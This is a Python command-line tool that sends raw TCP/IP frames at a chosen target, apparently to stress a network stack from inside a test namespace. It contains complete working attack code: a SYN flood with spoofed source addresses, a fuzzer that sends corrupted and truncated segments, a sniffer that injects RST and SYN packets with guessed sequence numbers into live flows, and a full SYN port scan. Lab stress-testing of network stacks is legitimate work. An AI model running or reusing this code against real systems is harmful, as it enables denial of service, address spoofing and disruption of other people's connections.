#!/usr/bin/env python3
"""Bad company on a link: raw frames at a target, from inside a namespace.

Usage: hostile.py MODE INTERFACE TARGET_MAC OWN_IP TARGET_IP PORT SECONDS [SEED]

  flood    SYNs from random ports, half of them from addresses that nobody has
  garbage  damaged segments: every length, offset and checksum may lie
  reset    RSTs and SYNs with guessed sequence numbers at the flows that pass by
  scan     one SYN to every port of the target
Prints how many frames it sent.
"""

import random
import socket
import struct
import sys
import time

SYN, RST, PSH, ACK = 2, 4, 8, 16


def checksum(octets):
    if len(octets) % 2:
        octets += b"\0"
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


class Sender:
    def __init__(self, interface, target_mac, own_ip, target_ip, seed):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((interface, 0))
        self.ethernet = bytes.fromhex(target_mac.replace(":", "")) + self.socket.getsockname()[4] + b"\x08\0"
        self.own, self.target = socket.inet_aton(own_ip), socket.inet_aton(target_ip)
        self.random = random.Random(seed)
        self.sent = 0

    def frame(self, source, segment):
        header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 1, 0x4000, 64, 6, 0, source, self.target)
        header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
        return self.ethernet + header + segment

    def segment(self, source, ports, seq, ack, flags, options=b"", data=b"", window=65535):
        offset = (5 + len(options) // 4) << 4
        tcp = struct.pack(">HHIIBBHHH", *ports, seq, ack, offset, flags, window, 0, 0) + options + data
        pseudo = source + self.target + struct.pack(">BBH", 0, 6, len(tcp))
        return tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]

    def send(self, frame):
        try:
            self.socket.send(frame)
            self.sent += 1
        except OSError:
            time.sleep(0.001)  # The device's queue is full.

    def syn(self, source, source_port, port):
        options = b"\x02\x04\x05\xb4\x01\x03\x03\x07\x04\x02\x00\x00"
        seq = self.random.getrandbits(32)
        self.send(self.frame(source, self.segment(source, (source_port, port), seq, 0, SYN, options)))

    def flood(self, port, until):
        while time.monotonic() < until:
            for _ in range(100):
                source = self.own
                if self.random.getrandbits(1):
                    source = self.own[:3] + bytes([self.random.randrange(100, 250)])
                self.syn(source, self.random.randrange(1024, 65536), port)

    def garbage(self, port, until):
        pick = self.random
        while time.monotonic() < until:
            options = pick.choice([b"", b"\x02\x00\x00\x00", b"\x03\x01\x00\x00", b"\x05\xff\x00\x00", b"\x08\x0a\x00\x00",
                                   b"\x1e\x02\x00\x00", bytes([pick.randrange(256) for _ in range(4 * pick.randrange(11))])])
            data = bytes(pick.randrange(256) for _ in range(pick.randrange(64)))
            ports = (pick.randrange(1, 65536), pick.choice([port, 0, pick.randrange(65536)]))
            tcp = self.segment(self.own, ports, pick.getrandbits(32), pick.getrandbits(32), pick.randrange(256), options,
                               data, pick.randrange(65536))
            frame = bytearray(self.frame(self.own, tcp))
            for _ in range(pick.randrange(4)):
                frame[pick.randrange(12, len(frame))] = pick.randrange(256)
            if pick.randrange(3) == 0:
                frame = frame[:pick.randrange(14, len(frame) + 1)]
            self.send(bytes(frame))

    def reset(self, port, until):
        """Watches the link for flows with the target and guesses into them."""
        watch = self.socket
        watch.settimeout(0.01)
        flows = set()
        while time.monotonic() < until:
            try:
                seen = watch.recv(2048)
                if seen[12:14] == b"\x08\0" and seen[23] == 6 and seen[26:30] == self.own and seen[30:34] == self.target:
                    flows.add(struct.unpack(">HH", seen[34:38]))
            except (TimeoutError, OSError):
                pass
            for ports in list(flows)[-8:]:
                for flags in (RST, RST | ACK, SYN, SYN | ACK, ACK):
                    seq = self.random.getrandbits(32)
                    self.send(self.frame(self.own, self.segment(self.own, ports, seq, self.random.getrandbits(32), flags)))

    def scan(self, _port, _until):
        for port in range(1, 65536):
            self.syn(self.own, 40000, port)


def main():
    mode, interface, mac, own, target, port, seconds = sys.argv[1:8]
    sender = Sender(interface, mac, own, target, sys.argv[8] if len(sys.argv) > 8 else "1")
    getattr(sender, mode)(int(port), time.monotonic() + float(seconds))
    print(sender.sent)


if __name__ == "__main__":
    main()
